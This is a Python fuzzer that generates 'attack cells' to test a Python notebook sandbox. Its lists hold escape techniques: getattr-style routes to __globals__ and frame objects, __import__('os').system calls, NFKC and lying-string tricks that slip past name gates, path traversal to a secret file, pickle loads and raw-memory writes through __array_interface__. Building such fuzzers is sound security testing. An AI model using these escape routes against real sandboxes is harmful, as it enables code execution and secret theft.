"""Generated attack cells (issue 13 item 2): allowed Python mixed with the ingredients of past escapes.

A cell is a few *steps*, each a statement that tries to get hold of something (an attribute read by a
string name through one of many getattr-like routes, a module reached through a granted one), to plant
something (a setattr-like route writing a value such as a raw numpy array interface or a library
callable), to trigger cell hooks from C (`__getattr__`, `__format__`, `__index__`, `__del__` ... run by
copy, numpy, pandas, json, match), or to reach a sink directly (files outside the working directory, the
loopback listener, a process). Steps sit in syntactic contexts (functions, generators, class bodies,
comprehensions, match, async, library callbacks) and everything obtained goes into `pool`; the epilogue
hands every pooled value to `escalate` (defined by PRELUDE), which tries to turn it into a process, a
secret read or a raw-memory write, and prints what it got. The oracles (fuzz_oracles.py) then look at
the host, not at what the cell claims.

The grammar takes its decisions from a chooser (`choice(label, options)`, `integer(label, lo, hi)`), so
hypothesis (`HypothesisChooser`), a seeded random generator or atheris can drive the same grammar.
"""
from __future__ import annotations

import random
import re
import textwrap

# -- the prelude: run before every generated cell in the same engine ---------------------------------------
# Placeholders filled from the scene: SECRET_PATH, CANARY_PATH, MARKER, PORT. Each definition is tried on
# its own: a refusal of one (a reserved hook name, say) leaves the others.
PRELUDE = '''\
import numpy as np, pandas as pd, math, json, functools, operator, copy, enum, dataclasses, abc, typing
import string, collections, itertools, contextlib, decimal, re, io, random, statistics, heapq, warnings
import numbers, fractions, datetime
import scipy, scipy.stats, scipy.optimize, scipy.io
import plotly.express as px, plotly.io as pio
SECRET_PATH = {secret_path!r}
CANARY_PATH = {canary_path!r}
MARKER = {marker!r}
PORT = {port!r}
CMD = "touch " + MARKER
IFACE = {{"shape": (1,), "typestr": "<f8", "data": (id(math.tau) + 16, False), "version": 3}}
pool = []
class Plain:
    pass
class S(str):
    pass
class Late(str):
    """A name unequal to the real one for its first `after` comparisons (the sandbox's checks), equal later
    (the library's lookup): its hash is the real name's."""
    def __new__(cls, name, after=0):
        self = str.__new__(cls, name)
        self.after = [after]
        return self
    def __eq__(self, other):
        self.after[0] -= 1
        return self.after[0] < 0 and str.__eq__(self, other)
    def __hash__(self):
        return str.__hash__(self)
class Err(Exception):
    pass
def cell_function(*a, **k):
    return a
def caught():
    try:
        raise Err("x")
    except Err as e:
        return e
def running_gen():
    def g():
        yield (yield)
    it = g()
    next(it)
    return it
try:
    class Hooked:
        def __getattr__(self, name):
            return IFACE if "array" in name else name
except Exception:
    Hooked = Plain
try:
    class Abstract(abc.ABC):
        __match_args__ = ("real",)
        @classmethod
        def __subclasshook__(cls, C):
            return True
except Exception:
    Abstract = Plain
try:
    @dataclasses.dataclass
    class DC:
        x: int = 1
except Exception:
    DC = Plain
try:
    class Color(enum.Enum):
        RED = 1
except Exception:
    Color = Plain
errors = []
ESCALATIONS = [
    lambda v: v.system(CMD),
    lambda v: v(CMD),
    lambda v: v["system"](CMD),
    lambda v: v["os"].system(CMD),
    lambda v: v.os.system(CMD),
    lambda v: v.modules["os"].system(CMD),
    lambda v: v.popen(CMD).read(),
    lambda v: v.run(["touch", MARKER]),
    lambda v: v.Popen(["touch", MARKER]),
    lambda v: v.posix_spawn("/usr/bin/touch", ["touch", MARKER], {{}}),
    lambda v: getattr(v, "__import__")("os").system(CMD),
    lambda v: v["__import__"]("os").system(CMD),
    lambda v: v["__builtins__"]["__import__"]("os").system(CMD),
    lambda v: getattr(v, "__builtins__")["__import__"]("os").system(CMD),
    lambda v: getattr(v, "__globals__")["__builtins__"]["open"](SECRET_PATH).read(),
    lambda v: v.open(SECRET_PATH).read(),
    lambda v: v["open"](SECRET_PATH).read(),
    lambda v: v(SECRET_PATH).read(),
    lambda v: v.read_text(SECRET_PATH),
    lambda v: v.create_connection(("127.0.0.1", PORT)),
    lambda v: v.urlopen("http://127.0.0.1:%d/" % PORT),
    lambda v: v.environ["FUZZ_SECRET_ENV"],
    lambda v: v.SECRET,
    lambda v: v.getcwd(),
    lambda v: getattr(getattr(v, "__traceback__"), "tb_frame").f_back.f_globals,
    lambda v: getattr(getattr(v, "gi_frame"), "f_back").f_globals,
    lambda v: np.asarray(v).__setitem__(0, 3.0),
    lambda v: np.array(v, copy=False).__setitem__(0, 3.0),
    lambda v: np.frombuffer(v, dtype=np.uint8)[:64].tobytes(),
]
def escalate(v):
    got = []
    for how in ESCALATIONS:
        try:
            got.append(how(v))
        except Exception as e:
            errors.append(e)   # judged by the host: an error of the runtime's own is a finding
            got.append(type(e).__name__)
    return got
'''

EPILOGUE = '''\
for _v in list(pool):
    try:
        print(repr(escalate(_v))[:3000])
    except Exception:
        pass
try:
    print(repr(pool)[:3000])
except Exception:
    pass
'''

# -- ingredients -------------------------------------------------------------------------------------------

# Attribute names: dunders, private names of the runtime and of libraries, names of dangerous functions.
NAMES = [
    "__class__", "__dict__", "__globals__", "__builtins__", "__subclasses__", "__base__", "__bases__",
    "__mro__", "mro", "__init__", "__code__", "__closure__", "__self__", "__func__", "__wrapped__",
    "__module__", "__reduce_ex__", "__reduce__", "__getattribute__", "__getattr__", "__setattr__",
    "__delattr__", "__array_interface__", "__array_struct__", "__array__", "__del__", "__import__",
    "__loader__", "__spec__", "__traceback__", "__context__", "__cause__", "__new__", "__call__",
    "__format__", "__get__", "__set_name__", "__init_subclass__", "__class_getitem__", "__match_args__",
    "__subclasshook__", "__instancecheck__", "__doc__", "__name__", "__qualname__", "__annotations__",
    "__kwdefaults__", "__defaults__", "__objclass__", "__slots__", "__weakref__", "__setstate__",
    "f_back", "f_globals", "f_locals", "f_builtins", "gi_frame", "gi_code", "gi_yieldfrom", "cr_frame",
    "ag_frame", "tb_frame", "tb_next", "co_code", "_FS", "_confinement", "_convert_", "_parse_arg_template",
    "_engine", "_gates", "_KEEP", "_member_map_", "_value2member_map_", "_abc_impl", "_sandbox_genuine",
    "_missing_", "_mgr", "_data", "_constructor", "_repr_html_", "_ipython_display_", "env", "ctypes",
    "cffi", "system", "popen", "modules", "sys", "os", "open", "eval", "exec", "compile", "read_csv",
    "to_csv", "query", "loads", "environ", "__st_getattr__", "SECRET", "apply", "real", "data", "base",
    "x", "format", "format_map", "vformat", "get_field", "register", "_registry", "state",
]

# Ways to spell a name as an expression: what a gate must see through (NFKC, str subclasses, non-str).
SPELLINGS = [
    "{q}",
    "{q}[:1] + {q}[1:]",
    "''.join(reversed({r}))",
    "'%s' % {q}",
    "{q}.upper().lower() if {q}.islower() else {q}",
    "S({q})",
    "str(S({q}))",
    "Late({q}, {k})",
    "{q}.encode().decode()",
    "{nfkc}",
    "{q}.encode()",
    "None",
    "[{q}]",
    "7",
]

# Objects: builtins, granted modules and library objects, the cell's own objects (from PRELUDE).
OBJECTS = [
    "print", "len", "getattr", "type", "object", "int", "str", "1", "'text'", "[1, 2]", "{'k': 1}",
    "(i for i in range(3))", "iter([1])", "range(3)", "print.__call__", "super(Plain, Plain())",
    "np", "np.ndarray", "np.array([1.0, 2.0])", "np.array([None], dtype=object)", "np.float64(1.5)",
    "np.random.default_rng(0)", "np.random.default_rng(0).bit_generator", "np.vectorize(abs)", "np.lib",
    "np.linalg", "np.dtype('O')", "np.typing", "np.char", "np.rec", "np.ma",
    "pd", "pd.Series([1, 2])", "pd.DataFrame({'a': [1, 2]})", "pd.DataFrame({'a': [1]}).style",
    "pd.read_csv", "pd.Series.apply", "pd.DataFrame.apply", "pd.Index([1])", "pd.Timestamp(0)",
    "pd.api", "pd.io", "pd.core", "pd.options", "pd.DataFrame({'a': [1]}).groupby('a')",
    "scipy", "scipy.stats", "scipy.stats.norm", "scipy.optimize.OptimizeResult(x=1)", "scipy.io",
    "px", "pio", "px.line(x=[1, 2])",
    "math", "json", "json.JSONEncoder()", "json.decoder", "functools", "functools.partial(print, 1)",
    "operator", "copy", "enum", "dataclasses", "abc", "typing", "string", "string.Formatter()",
    "collections", "collections.OrderedDict()", "decimal", "decimal.getcontext()", "re", "re.compile('a')",
    "io.StringIO()", "warnings", "random", "datetime.datetime(2020, 1, 1)", "statistics", "itertools",
    "Plain()", "Plain", "Hooked()", "Hooked", "Abstract", "DC()", "DC", "Color.RED", "Color", "S('x')",
    "cell_function", "lambda: 0", "Err()", "caught()", "running_gen()", "IFACE", "escalate", "pool",
    "ESCALATIONS", "globals", "vars", "dir",
]

# Values a step plants: raw memory, library callables that write outside, cell callables, descriptors.
VALUES = [
    "IFACE", "1", "None", "print", "(lambda *a, **k: 0)", "cell_function", "Hooked()",
    "functools.partial(np.savetxt, CANARY_PATH, np.array(['x'], dtype=object), '%s')",
    "functools.partial(pd.DataFrame({'a': [1]}).to_csv, CANARY_PATH)",
    "functools.partial(print, CMD)", "property(lambda s: IFACE)", "classmethod(lambda c, *a: IFACE)",
    "staticmethod(print)", "json.loads", "np.asarray", "{'__array_interface__': IFACE}", "{'data': (0, False)}",
    "'{0.__class__}'", "S('x')", "type", "object", "enum.Enum", "abc.ABCMeta",
]

# Reading obj.<name> where name is an expression: every getattr-like route found so far.
READERS = [
    "getattr({o}, {n})",
    "getattr({o}, {n}, None)",
    "operator.attrgetter({n})({o})",
    "functools.partial(getattr, {o})({n})",
    "functools.reduce(getattr, [{n}], {o})",
    "list(map(getattr, [{o}], [{n}]))[0]",
    "({o}).__getattribute__({n})",
    "object.__getattribute__({o}, {n})",
    "type({o}).__getattribute__({o}, {n})",
    "vars({o})[{n}]",
    "({o}).__dict__[{n}]",
    "type({o}).__dict__[{n}]",
    "('{{0.%s}}' % ({n},)).format({o})",
    "('{{x.%s}}' % ({n},)).format_map({{'x': {o}}})",
    "('{{0[%s]}}' % ({n},)).format(vars({o}))",
    "string.Formatter().format('{{0.%s}}' % ({n},), {o})",
    "string.Formatter().get_field('0.%s' % ({n},), [{o}], {{}})",
    "pd.Series([{o}], dtype=object).apply(operator.attrgetter({n}))[0]",
    "pd.Series.apply({o}, {n})",
    "pd.Series([1]).agg({n})",
    "pd.DataFrame({{'a': [1]}}).apply({n})",
    "pd.Series([1]).pipe({n})",
    "np.vectorize(lambda x: getattr(x, {n}), otypes=[object])(np.array([{o}], dtype=object))[0]",
    "np.frompyfunc(getattr, 2, 1)({o}, {n})",
    "operator.methodcaller('__getattribute__', {n})({o})",
    "operator.methodcaller({n})({o})",
    "super(type({o}), {o}).__getattribute__({n})",
    "dataclasses.replace({o}, **{{{n}: 1}})",
    "copy.replace({o}, **{{{n}: 1}})",
    "enum.Enum('E', {{{n}: {o}}})",
    "dict(vars({o})).get({n})",
    "[getattr(x, {n}) for x in [{o}]][0]",
    "sorted([{o}], key=operator.attrgetter({n}))[0]",
    "max([{o}], key=lambda x: getattr(x, {n}))",
    "hasattr({o}, {n}) and getattr({o}, {n})",
    "typing.get_type_hints({o})",
    "dataclasses.fields({o})",
    "dataclasses.asdict({o})",
    "copy.copy({o})",
    "copy.deepcopy({o})",
    "({o}).__reduce_ex__(2)",
    "functools.update_wrapper(lambda: 0, {o}).__dict__",
    "functools.wraps({o})(lambda: 0).__wrapped__",
    "pd.api.indexers.BaseIndexer(**{{{n}: {o}}})",
    "scipy.optimize.OptimizeResult({{{n}: {o}}})",
    "pd.Series([{o}], index=[{n}], dtype=object)",
    "pd.DataFrame({{{n}: [{o}]}})",
]

# Writing obj.<name> = value by string.
WRITERS = [
    "setattr({o}, {n}, {v})",
    "({o}).__dict__[{n}] = {v}",
    "vars({o})[{n}] = {v}",
    "vars({o}).update({{{n}: {v}}})",
    "object.__setattr__({o}, {n}, {v})",
    "type({o}).__setattr__({o}, {n}, {v})",
    "type.__setattr__({o}, {n}, {v})",
    "pd.Series.apply({o}, '__setattr__', args=({n}, {v}))",
    "operator.methodcaller('__setattr__', {n}, {v})({o})",
    "functools.update_wrapper({o}, type('W', (), {{{n}: {v}}})())",
    "({o}).__setstate__({{{n}: {v}}})",
    "dict.__setitem__(vars({o}), {n}, {v})",
    "dict.update(({o}).__dict__, {{{n}: {v}}})",
    "pd.Series([{o}], dtype=object).apply(lambda x: setattr(x, {n}, {v}))",
    "np.vectorize(lambda x: setattr(x, {n}, {v}), otypes=[object])(np.array([{o}], dtype=object))",
    "functools.reduce(lambda a, b: setattr(a, b, {v}), [{n}], {o})",
]

# Classes made outside a class statement, with a name and a value chosen by the cell.
CLASS_MAKERS = [
    "enum.Enum('E', {{{n}: {v}, 'A': 1}})",
    "enum.Enum('E', [('A', 1), ({n}, {v})])",
    "enum.Enum('E', {{'A': 1}}, module={n})",
    "enum.global_enum(enum.Enum('E', {{'A': 1}}, module={n}))",
    "dataclasses.make_dataclass('D', [({n}, int, dataclasses.field(default={v}))])",
    "dataclasses.make_dataclass('D', [('x', int)], namespace={{{n}: {v}}})",
    "typing.NamedTuple('T', [({n}, int)])",
    "collections.namedtuple('T', [{n}])",
    "type('X', (), {{{n}: {v}}})",
    "abc.ABCMeta('X', (), {{{n}: {v}}})",
    "type(Plain)('X', (Plain,), {{{n}: {v}}})",
    "typing.TypedDict('TD', {{{n}: int}})",
    "typing.dataclass_transform()({o})",
    "typing.no_type_check({o})",
    "typing.final({o})",
    "typing.runtime_checkable({o})",
    "typing.overload({o})",
    "typing.dataclass_transform(field_specifiers=({v},))({o})",
    "functools.singledispatch({o})",
    "enum.unique({o})",
    "dataclasses.dataclass({o})",
    "functools.total_ordering({o})",
    "abc.update_abstractmethods({o})",
]

# Modules and names a cell would like to reach from a granted module.
MODULE_NAMES = ["os", "sys", "builtins", "subprocess", "threading", "contextvars", "gc", "weakref", "ctypes",
                "importlib", "pickle", "io", "posix", "_thread", "socket", "inspect", "types", "shutil",
                "fuzz_host_secret", "sandbox_kernel", "confine", "gates"]
MODULE_HOLDERS = ["np", "pd", "scipy", "json", "functools", "dataclasses", "enum", "typing", "copy", "string",
                  "random", "decimal", "warnings", "collections", "abc", "operator", "re", "np.lib", "np.ma",
                  "pd.io.common", "pd.core.common", "pd.io.formats.style", "scipy.io", "scipy.optimize", "pio",
                  "px", "statistics", "datetime", "contextlib", "json.decoder", "np.random", "np.ctypeslib"]

# Direct attempts at the sinks through granted libraries.
SINKS = [
    "open(SECRET_PATH).read()",
    "io.open(SECRET_PATH).read()",
    "pd.read_csv(SECRET_PATH)",
    "pd.read_table(SECRET_PATH, header=None)",
    "np.loadtxt(SECRET_PATH, dtype=str)",
    "np.genfromtxt(SECRET_PATH, dtype=str)",
    "np.fromfile(SECRET_PATH, dtype=np.uint8)",
    "open('../' * 12 + SECRET_PATH.lstrip('/')).read()",
    "pd.read_json(SECRET_PATH)",
    "scipy.io.mmread(SECRET_PATH)",
    "open(CANARY_PATH, 'w').write('x')",
    "pd.DataFrame({'a': [1]}).to_csv(CANARY_PATH)",
    "pd.DataFrame({'a': [1]}).to_csv(CANARY_PATH + '.bz2', compression='bz2')",
    "np.save(CANARY_PATH, np.zeros(1))",
    "np.savetxt(CANARY_PATH, np.zeros(1))",
    "px.line(x=[1, 2]).write_html(CANARY_PATH)",
    "pio.write_json(px.line(x=[1, 2]), CANARY_PATH)",
    "scipy.io.mmwrite(CANARY_PATH, np.eye(2))",
    "scipy.io.savemat(CANARY_PATH, {'a': np.eye(2)})",
    "pd.DataFrame({'a': [1]}).to_pickle(CANARY_PATH)",
    "pd.read_pickle(SECRET_PATH)",
    "np.load(SECRET_PATH, allow_pickle=True)",
    "pd.read_csv('http://127.0.0.1:%d/x.csv' % PORT)",
    "np.lib.npyio.DataSource(None).open('http://127.0.0.1:%d/x' % PORT)",
    "pd.DataFrame({'a': [1]}).to_clipboard()",
    "pd.read_clipboard()",
    "px.line(x=[1, 2]).show(renderer='browser')",
    "pio.show(px.line(x=[1, 2]), renderer='browser')",
    "scipy.optimize.differential_evolution(lambda x: 0.0, [(0, 1)], workers=2, maxiter=1)",
    "pd.DataFrame({'a': [1]}).eval('a + 1')",
    "pd.eval('1 + 1')",
    "pd.DataFrame({'a': [1]}).query('a > 0')",
    "pd.DataFrame({'a': [1]}).query('a.__class__ == 1')",
    "pd.set_option('display.float_format', functools.partial(print, CMD))",
    "np.bmat('pool')",
    "pd.DataFrame({'a': [1]}).style.format('{0.__class__}').to_html()",
    "pd.DataFrame({'a': [1]}).style.format(SECRET_PATH).to_html()",
    "decimal.getcontext().__init__(prec=10**9)",
    "np.ctypeslib.as_array(np.ctypeslib.ndpointer())",
    "np.random.default_rng(0).bit_generator.ctypes",
    "np.random.default_rng(0).bit_generator.cffi",
    "warnings.showwarning",
    "json.loads('{}', object_hook=print)",
]

# Cell hooks that C code, libraries or the host may call, and what triggers them.
HOOKS = ["__getattr__", "__getattribute__", "__eq__", "__hash__", "__index__", "__format__", "__repr__",
         "__str__", "__len__", "__iter__", "__del__", "__init_subclass__", "__set_name__", "__class_getitem__",
         "__array__", "__array_ufunc__", "__array_function__", "__fspath__", "__enter__", "__deepcopy__",
         "__copy__", "__setstate__", "__getstate__", "__missing__", "__bool__", "__lt__", "__contains__",
         "__getitem__", "__call__", "__mro_entries__", "__get__", "__set__", "__reduce_ex__", "default",
         "get_field", "_repr_html_", "_repr_mimebundle_", "__int__", "__float__", "__round__", "__len__"]
BASES = ["object", "Plain", "str", "dict", "list", "int", "abc.ABC", "Exception", "json.JSONEncoder",
         "string.Formatter", "np.ndarray", "pd.Series", "collections.OrderedDict", "enum.Enum", "Abstract",
         "scipy.stats.rv_continuous", "decimal.Decimal", "typing.NamedTuple", "typing.Generic", "type"]
TRIGGERS = [
    "repr({x})", "str({x})", 'f"""{{{x}}}"""', "format({x}, 'x')", "'{{0}}'.format({x})", "copy.copy({x})",
    "copy.deepcopy([{x}])", "len({x})", "list({x})", "[*{x}]", "{x} == 1", "{{{x}: 1}}", "hash({x})",
    "np.asarray({x})", "np.array([{x}])", "np.asarray({x}).sum()", "pd.Series([{x}])", "pd.DataFrame([{x}])",
    "json.dumps({x}, default=str)", "isinstance(1, {x})", "issubclass(int, {x})", "operator.index({x})",
    "range({x})", "sorted([{x}, {x}])", "pd.read_csv({x})", "open({x})", "np.save({x}, np.zeros(1))",
    "abs({x})", "{x}()", "{x}.x", "getattr({x}, 'y', 0)", "dict({x})", "bool({x})", "[1, 2][{x}]",
    "round({x})", "int({x})", "{x} in [1]", "1 in {x}", "max({x}, {x})", "pd.Series([1]).apply({x})",
    "np.vectorize({x})([1])", "functools.reduce({x}, [1, 2])", "dataclasses.asdict({x})",
    "pd.Series([1]).map({x})", "str.format_map('{{a}}', {x})", "decimal.Decimal(1).quantize({x})",
]

# Names of the runtime and the names the rewriter refuses or keeps read-only, to bind at every binding site
# (a shadowed gate would run the cell's function for every attribute read that follows).
SHADOWED = ["__st_getattr__", "__st_ownattr__", "__st_import__", "__st_write__", "__st_tick__", "__st_format__",
            "__st_type__", "__st_own__", "__st_sized__", "__st_with0__", "__st_mc1__", "__st_own_H__",
            "__builtins__", "__import__", "__build_class__", "__class__", "__name__", "__module__", "__dict__",
            "__array_interface__", "__reduce_ex__", "__loader__", "getattr", "print", "type", "object", "super",
            "__\uff53t_getattr__"]   # NFKC: the parser folds the fullwidth s
BINDINGS = [
    "{name} = {v}",
    "{name}, _rest = {v}, 0",
    "def _s({name}=None):\n    return {name}\n_s()",
    "def _s(*{name}):\n    return {name}\n_s(1)",
    "def _s(**{name}):\n    return {name}\n_s(a=1)",
    "def {name}(*a, **k):\n    return a",
    "class {name}:\n    pass",
    "async def {name}():\n    pass",
    "match {v}:\n    case {name}:\n        pass",
    "match [{v}]:\n    case [*{name}]:\n        pass",
    "match {{'k': {v}}}:\n    case {{'k': {name}}}:\n        pass",
    "match {v}:\n    case object() as {name}:\n        pass",
    "try:\n    raise Err()\nexcept Err as {name}:\n    pass",
    "import math as {name}",
    "from math import floor as {name}",
    "({name} := {v})",
    "[{name} for {name} in [{v}]]",
    "for {name} in [{v}]:\n    pass",
    "with contextlib.nullcontext({v}) as {name}:\n    pass",
    "global {name}\n{name} = {v}",
    "(lambda {name}=0: {name})()",
    "del {name}",
    "{name} += 1",
    "{name}: int = {v}",
    "class _K:\n    {name} = {v}",
    "class _K:\n    def {name}(self):\n        return 1",
    "_d = {{}}\nexec('{name} = 1', _d)",
    "globals()['{name}'] = {v}",
]
# After a binding: gated operations that would call a shadowed gate.
AFTER_BINDING = "pool.append((math.tau.real, Plain().__class__, f'{{1.5:>4}}', [1][0], 'a' in 'abc', 3 * 'x'))"

# Statements on an object: attribute and item writes, deletes, augmented assignment, with, slices, operators.
OPERATIONS = [
    "_t = {o}\n_t.x = {v}\npool.append(_t)",
    "_t = {o}\n_t.real += 1",
    "_t = {o}\ndel _t.x",
    "_t = {o}\n_t[0] = {v}",
    "_t = {o}\n_t['k'] = {v}\npool.append(_t)",
    "_t = {o}\ndel _t[0]",
    "with {o} as _w:\n    pool.append(_w)",
    "pool.append({o}[::-1])",
    "pool.append({o}[{n}])",
    "pool.append({o} * 3)",
    "pool.append({o} % ({v},))",
    "pool.append({o} @ {o})",
    "pool.append(-{o})",
    "pool.append({o} < {v})",
    "pool.append({o} in {v})",
    "pool.append({o}({v}))",
    "pool.append({o}(*{v}))",
    "pool.append({o}(**{v}))",
    'pool.append(f"""{{{o}!r:>{{3}}}}""")',
]

# Syntactic and library contexts a step runs in. {body} is a statement block, {expr} an expression.
STATEMENT_CONTEXTS = [
    "{body}",
    "def _w():\n{body_i}\n_w()",
    "def _g():\n{body_i}\n    yield\nlist(_g())",
    "class _K:\n{body_i}",
    "try:\n{body_i}\nfinally:\n    pass",
    "for _ in range(1):\n{body_i}",
    "match 0:\n    case _:\n{body_ii}",
    "async def _a():\n{body_i}\n_c = _a()\ntry:\n    _c.send(None)\nexcept StopIteration:\n    pass",
    "with contextlib.suppress(Exception):\n{body_i}",
    "with decimal.localcontext():\n{body_i}",
    "with warnings.catch_warnings():\n{body_i}",
    "@functools.lru_cache\ndef _c():\n{body_i}\n_c()",
    "class _D:\n    def __init__(self):\n{body_ii}\n_D()",
    "class _R:\n    def __repr__(self):\n{body_ii}\n        return 'r'\nrepr(_R())",
    "class _F:\n    def __format__(self, spec):\n{body_ii}\n        return 'f'\nf'{{_F()}}'",
    "class _I:\n    def __index__(self):\n{body_ii}\n        return 1\n[0, 1][_I()]",
    "class _N:\n    def __init_subclass__(cls, **kw):\n{body_ii}\nclass _M(_N):\n    pass",
    "class _T:\n    def __iter__(self):\n{body_ii}\n        return iter([1])\nlist(_T())",
]
EXPRESSION_CONTEXTS = [
    "({expr})",
    "(lambda: {expr})()",
    "[{expr} for _ in [0]][0]",
    "next({expr} for _ in [0])",
    "pd.Series([0]).apply(lambda _: {expr})[0]",
    "np.vectorize(lambda _: {expr}, otypes=[object])([0])[0]",
    "list(map(lambda _: {expr}, [0]))[0]",
    "sorted([0], key=lambda _: ({expr}, 0)[1])",
    "functools.reduce(lambda a, b: {expr}, [0, 1])",
    "pd.DataFrame({{'a': [0]}}).pipe(lambda d: {expr})",
    "scipy.optimize.minimize_scalar(lambda x: (pool.append({expr}), x * x)[1], bounds=(0, 1), method='bounded').x",
    "copy.deepcopy([0], {{id(0): {expr}}})",
    "(_x := {expr})",
    "[*[{expr}]][0]",
    "{{**{{'k': {expr}}}}}['k']",
]
MATCH_TEMPLATES = [
    "match {o}:\n    case Abstract(_got):\n        pool.append(_got)",
    "match {o}:\n    case object({ident}=_got):\n        pool.append(_got)",
    "match {o}:\n    case {{**_rest}}:\n        pool.append(_rest)",
    "match {o}:\n    case [_a, *_rest]:\n        pool.append(_rest)",
    "match {o}:\n    case Color.RED | Color.RED:\n        pool.append(1)",
    "match {o}:\n    case type(mro=_got):\n        pool.append(_got)",
    "match {o}:\n    case str() as _got:\n        pool.append(_got)",
]
STARRED_TEMPLATES = [
    "_a, *_b = {o}\npool.append(_b)",
    "[*_b] = {o}\npool.append(_b)",
    "for _a, *_b in [{o}]:\n    pool.append(_b)",
    "pool.append([*{o}])",
    "pool.append({{*{o}}})",
    "pool.append(print(*{o}, sep=''))",
    "pool.append(dict(**{o}))",
]


class RandomChooser:
    """Decisions from a seeded random.Random (the long run's default driver)."""

    def __init__(self, seed):
        self.rng = random.Random(seed)

    def choice(self, label, options):
        return options[self.rng.randrange(len(options))]

    def integer(self, label, lo, hi):
        return self.rng.randint(lo, hi)


class HypothesisChooser:
    """Decisions drawn from hypothesis' `st.data()`: its shrinker then works on the decisions."""

    def __init__(self, data):
        from hypothesis import strategies as st
        self.data = data
        self.st = st

    def choice(self, label, options):
        return options[self.data.draw(self.st.integers(0, len(options) - 1), label=label)]

    def integer(self, label, lo, hi):
        return self.data.draw(self.st.integers(lo, hi), label=label)


def _nfkc_spelling(name: str) -> str:
    """Underscores as FULLWIDTH LOW LINE and the first letter as its fullwidth form: NFKC gives `name`."""
    out = []
    for i, ch in enumerate(name):
        if ch == "_":
            out.append("\uff3f")
        elif i == name.find(next((c for c in name if c.isalpha()), "\0")) and ch.isalpha() and ch.isascii():
            out.append(chr(ord(ch) - 0x21 + 0xFF01))
        else:
            out.append(ch)
    return repr("".join(out))


class Grammar:
    """Builds one cell from a chooser's decisions."""

    def __init__(self, chooser):
        self.c = chooser

    def name(self) -> str:
        raw = self.c.choice("name", NAMES)
        spelling = self.c.choice("spelling", SPELLINGS)
        return spelling.format(q=repr(raw), r=repr(raw[::-1]), nfkc=_nfkc_spelling(raw),
                               k=self.c.integer("late", 0, 5) if "{k}" in spelling else 0)

    def ident(self) -> str:
        return self.c.choice("ident", [n for n in NAMES if n.isidentifier()])

    def obj(self, depth: int = 0) -> str:
        kind = self.c.integer("obj-kind", 0, 5 if depth < 1 else 3)
        if kind == 4:   # something read by a route: the reads compose
            return f"({self.reader(depth + 1)})"
        if kind == 5:
            return f"pool[{self.c.integer('pool-index', -3, -1)}]"
        chosen = self.c.choice("object", OBJECTS)
        # templates put objects before '.', after '*' and 'in': a lambda, a literal or an operator needs parentheses
        return chosen if re.fullmatch(r"[A-Za-z_][\w.]*(\(.*\))?", chosen) else f"({chosen})"

    def value(self) -> str:
        return self.c.choice("value", VALUES)

    def reader(self, depth: int = 0) -> str:
        return self.c.choice("reader", READERS).format(o=self.obj(depth), n=self.name())

    def expression(self) -> str:
        kind = self.c.integer("expr-kind", 0, 6)
        if kind <= 2:
            expr = self.reader()
        elif kind == 3:
            holder = self.c.choice("holder", MODULE_HOLDERS)
            expr = self.c.choice("reader", READERS[:8]).format(o=holder, n=repr(self.c.choice("module", MODULE_NAMES)))
        elif kind == 4:
            expr = self.c.choice("sink", SINKS)
        elif kind == 5:
            expr = self.c.choice("maker", CLASS_MAKERS).format(o=self.obj(), n=self.name(), v=self.value())
        else:
            expr = self.c.choice("trigger", TRIGGERS).format(x=self.obj())
        return expr

    def hook_class(self) -> str:
        base = self.c.choice("base", BASES)
        lines = [f"class H({base}):"]
        for i in range(self.c.integer("hooks", 1, 3)):
            hook = self.c.choice("hook", HOOKS)
            ret = self.c.choice("hook-return", VALUES + ["self", "name", "a", "1", "'s'", "iter([1])"])
            lines += [f"    def {hook}(self, *a, **k):", "        name = a[0] if a else 'x'",
                      f"        pool.append({self.expression()})", f"        return {ret}"]
        if self.c.integer("class-attr", 0, 2) == 0:
            lines.append(f"    {self.ident()} = {self.value()}")
        instance = self.c.choice("instance", ["H()", "H", "H(1)", "H('x')"])
        lines.append(f"_h = {instance}")
        lines.append(f"pool.append({self.c.choice('trigger', TRIGGERS).format(x='_h')})")
        if self.c.integer("drop", 0, 2) == 0:
            lines.append("_h.me = _h\ndel _h")   # a cycle for the collector: finalizers after the cell
        return "\n".join(lines)

    def statement(self) -> str:
        kind = self.c.integer("stmt-kind", 0, 11)
        if kind == 10:
            binding = self.c.choice("binding", BINDINGS).format(name=self.c.choice("shadowed", SHADOWED),
                                                                 v=self.value())
            return binding + "\n" + AFTER_BINDING
        if kind == 11:
            return self.c.choice("operation", OPERATIONS).format(o=self.obj(), n=self.name(), v=self.value())
        if kind <= 3:
            return f"pool.append({self.wrap_expression(self.expression())})"
        if kind == 4:
            written = self.c.choice("writer", WRITERS).format(o="_t", n=self.name(), v=self.value())
            return f"_t = {self.obj()}\n{written}\npool.append(_t)"
        if kind == 5:
            return self.hook_class()
        if kind == 6:
            return self.c.choice("match", MATCH_TEMPLATES).format(o=self.obj(), ident=self.ident())
        if kind == 7:
            return self.c.choice("starred", STARRED_TEMPLATES).format(o=self.obj())
        if kind == 8:
            fin = self.value()
            return f"class _Fin:\n    __del__ = {fin}\n_f = _Fin()\n_f.me = _f\ndel _f"
        return f"pool.append({self.expression()})"

    def wrap_expression(self, expr: str) -> str:
        return self.c.choice("expr-context", EXPRESSION_CONTEXTS).format(expr=expr)

    def step(self) -> str:
        body = self.statement()
        context = self.c.choice("context", STATEMENT_CONTEXTS)
        text = context.format(body=body, body_i=textwrap.indent(body, "    "),
                              body_ii=textwrap.indent(body, "        "))
        if self.c.integer("guarded", 0, 3):   # most steps survive their own error, so later steps run
            text = "try:\n" + textwrap.indent(text, "    ") + "\nexcept Exception as _e:\n    pool.append(_e)"
        return text

    def cell(self) -> str:
        steps = [self.step() for _ in range(self.c.integer("steps", 1, 5))]
        return "pool = []\nerrors = []\n" + "\n".join(steps) + "\n" + EPILOGUE


def build_cell(chooser) -> str:
    return Grammar(chooser).cell()


def steps_of(cell: str) -> list[str]:
    """The top-level statements of a generated cell (what the minimiser removes one by one)."""
    import ast
    tree = ast.parse(cell)
    lines = cell.splitlines()
    return ["\n".join(lines[n.lineno - 1:n.end_lineno]) for n in tree.body]
